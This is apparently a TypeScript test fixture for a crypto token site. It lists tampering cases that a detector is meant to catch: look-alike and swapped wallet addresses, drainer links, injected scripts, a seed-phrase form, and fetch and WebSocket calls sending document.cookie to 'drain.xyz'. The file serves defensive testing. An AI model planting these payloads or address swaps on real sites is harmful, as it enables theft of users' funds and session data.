import { madeUpAddress } from '../../../test-support/launch-site';

export interface Tampering {
  /** What somebody did. */
  deed: string;
  file: string;
  /** The file's new bytes; undefined removes it. */
  change: (bytes: Buffer, mint: string) => Buffer;
}

const THIEF = madeUpAddress('thief');

/** A change of the text, which must be one. */
function text(change: (text: string, mint: string) => string): Tampering['change'] {
  return (bytes, mint) => {
    const before = bytes.toString('utf8');
    const after = change(before, mint);
    if (after === before) throw new Error('This tampering changes nothing: the file has another form now.');
    return Buffer.from(after);
  };
}

const replace = (from: string | RegExp, to: string) => text((page) => page.replace(from, to));
const beforeEndOfBody = (html: string) => replace('</body>', `${html}</body>`);
const appended = (code: string) => text((script) => `${script}\n${code}`);
const near = (pattern: (mint: string) => RegExp | string, to: (mint: string) => string) =>
  text((page, mint) => page.replace(pattern(mint), to(mint)));

/** The address with one character changed in its middle, to another one that addresses have. */
const oneOff = (mint: string) => `${mint.slice(0, 20)}${mint[20] === 'x' ? 'y' : 'x'}${mint.slice(21)}`;
/** Another address with the ends of the token's, for people who compare the ends. */
const sameEnds = (mint: string) => `${mint.slice(0, 5)}${THIEF.slice(5, 38)}${mint.slice(38)}`;

const page = 'index.html';
const pageData = 'page-data/index/page-data.json';
const script = 'app.js';

/** Ways to put another address, another place or other code on the site. `app.js` stands for the file of that name and its hash. */
export const tamperings: readonly Tampering[] = [
  {
    deed: 'one character of the shown address',
    file: page,
    change: near(
      (mint) => `>${mint}<`,
      (mint) => `>${oneOff(mint)}<`,
    ),
  },
  {
    deed: 'one character of what the button copies',
    file: page,
    change: near(
      (mint) => `data-copy="${mint}"`,
      (mint) => `data-copy="${oneOff(mint)}"`,
    ),
  },
  {
    deed: 'one character in the buy link',
    file: page,
    change: near(
      (mint) => `buy=${mint}`,
      (mint) => `buy=${oneOff(mint)}`,
    ),
  },
  {
    deed: 'one character in the explorer link',
    file: page,
    change: near(
      (mint) => `explorer.calmbiscuit.xyz/url/${mint}`,
      (mint) => `explorer.calmbiscuit.xyz/url/${oneOff(mint)}`,
    ),
  },
  { deed: 'one character in the page data', file: pageData, change: near((mint) => mint, oneOff) },
  { deed: 'another address in a script', file: script, change: appended(`var a="${THIEF}"`) },
  {
    deed: 'another address behind escapes in a script',
    file: script,
    change: appended(`var a="\\u00${THIEF.charCodeAt(0).toString(16)}${THIEF.slice(1)}"`),
  },
  {
    deed: 'a look-alike with the same ends',
    file: page,
    change: near(
      (mint) => `>${mint}<`,
      (mint) => `>${sameEnds(mint)}<`,
    ),
  },
  {
    deed: 'a look-alike with a letter of another script',
    file: page,
    change: near(
      (mint) => `>${mint}<`,
      (mint) => `>${mint.slice(0, 20)}\u043e${mint.slice(21)}<`,
    ),
  },
  {
    deed: 'a look-alike with a zero',
    file: page,
    change: near(
      (mint) => `>${mint}<`,
      (mint) => `>${mint.slice(0, 20)}0${mint.slice(21)}<`,
    ),
  },
  {
    deed: 'the address as character references',
    file: page,
    change: near(
      (mint) => `>${mint}<`,
      () => `>&#${THIEF.charCodeAt(0)};${THIEF.slice(1)}<`,
    ),
  },
  {
    deed: 'an address in a picture’s text',
    file: 'share.png',
    change: (bytes) => Buffer.concat([bytes, Buffer.from(` ${THIEF} `)]),
  },
  {
    deed: 'the buy link leads to another exchange',
    file: page,
    change: replace(/href="https:\/\/swap\./, 'href="https://svvap.'),
  },
  {
    deed: 'the buy link sells the token',
    file: page,
    change: near(
      (mint) => new RegExp(`sell=\\w+&(?:amp;)?buy=${mint}`),
      (mint) => `sell=${mint}&amp;buy=So11111111111111111111111111111111111111112`,
    ),
  },
  {
    deed: 'the buy link in the page data',
    file: pageData,
    change: replace('https://swap.', 'https://swap.calmbiscuit.xyz.evil.'),
  },
  {
    deed: 'a social link in the page data',
    file: pageData,
    change: replace(/https:\/\/socials\.[^"]+/, 'https://socials.calmbiscuit.xyz/drainer'),
  },
  {
    deed: 'a link is added',
    file: page,
    change: beforeEndOfBody('<a href="https://claim-biscuit.xyz">claim</a>'),
  },
  {
    deed: 'a link to a known host with another path',
    file: page,
    change: beforeEndOfBody('<a href="https://socials.calmbiscuit.xyz/drainer">claim</a>'),
  },
  {
    deed: 'a script is added to the page',
    file: page,
    change: beforeEndOfBody('<script>document.title="x"</script>'),
  },
  {
    deed: 'a script from another host',
    file: page,
    change: beforeEndOfBody('<script src="https://cdn-biscuit.xyz/a.js"></script>'),
  },
  {
    deed: 'a script from the site’s own files',
    file: page,
    change: beforeEndOfBody('<script src="/deck/share.js"></script>'),
  },
  {
    deed: 'the start-up script does more',
    file: page,
    change: replace(
      '(function beforeHydration(',
      '(function beforeHydration(){fetch("/x")})();(function beforeHydration(',
    ),
  },
  { deed: 'a script in an attribute', file: page, change: replace('<img ', '<img onerror="steal()" ') },
  {
    deed: 'a script in a link',
    file: page,
    change: beforeEndOfBody('<a href=" java&#x73;cript:steal()">claim</a>'),
  },
  {
    deed: 'a frame over the page',
    file: page,
    change: beforeEndOfBody('<iframe src="/deck/share.png"></iframe>'),
  },
  { deed: 'a form', file: page, change: beforeEndOfBody('<form><input name="seed"></form>') },
  {
    deed: 'a redirect',
    file: page,
    change: replace('<head>', '<head><meta http-equiv="refresh" content="0;url=/deck/x">'),
  },
  {
    deed: 'a base element that turns every address',
    file: page,
    change: replace('<head>', '<head><base href="/x/">'),
  },
  {
    deed: 'another home in the canonical link',
    file: page,
    change: replace(/rel="canonical" href="[^"]+"/, 'rel="canonical" href="https://calmbiscuit.xyz/"'),
  },
  {
    deed: 'another profile in the structured data',
    file: page,
    change: replace('"sameAs":["', '"sameAs":["https://socials.calmbiscuit.xyz/other","'),
  },
  {
    deed: 'a script of the page asks another host',
    file: script,
    change: appended('fetch("https://drain.xyz/"+document.cookie)'),
  },
  {
    deed: 'the same without a scheme',
    file: script,
    change: appended('fetch("//drain.xyz/"+document.cookie)'),
  },
  { deed: 'the same by WebSocket', file: script, change: appended('new WebSocket("wss://drain.xyz")') },
  {
    deed: 'a picture from another host in the styles',
    file: page,
    change: replace('</style>', 'main{background:url(https://track.xyz/a.png)}</style>'),
  },
  {
    deed: 'a script in a drawing',
    file: 'icon.svg',
    change: replace('</svg>', '<script>steal()</script></svg>'),
  },
  {
    deed: 'another sitemap',
    file: 'robots.txt',
    change: replace(/Sitemap: .*/, 'Sitemap: https://other.xyz/sitemap.xml'),
  },
  {
    deed: 'another contact for security reports',
    file: '.well-known/security.txt',
    change: replace(/Contact: .*/, 'Contact: https://other.xyz/'),
  },
  {
    deed: 'a page that the build did not write',
    file: 'airdrop.html',
    change: () => Buffer.from(`<p>Send SOL to ${THIEF}`),
  },
  {
    deed: 'the compressed page alone',
    file: 'index.html.br',
    change: () => Buffer.from('not what the page says'),
  },
  { deed: 'a source map', file: script, change: appended('//# sourceMappingURL=app.js.map') },
  {
    deed: 'a path of somebody’s machine',
    file: script,
    change: appended('// /home/captain/biscuit/src/app.tsx'),
  },
  { deed: 'a secret key', file: script, change: appended('var k="sb_secret_0123456789abcdef"') },
  {
    deed: 'another share picture',
    file: 'share.png',
    change: (bytes) => Buffer.concat([bytes, Buffer.alloc(1)]),
  },
  {
    deed: 'an address that a script puts together from pieces',
    file: script,
    change: appended(`var a="${THIEF.slice(0, 20)}"+"${THIEF.slice(20)}"`),
  },
];
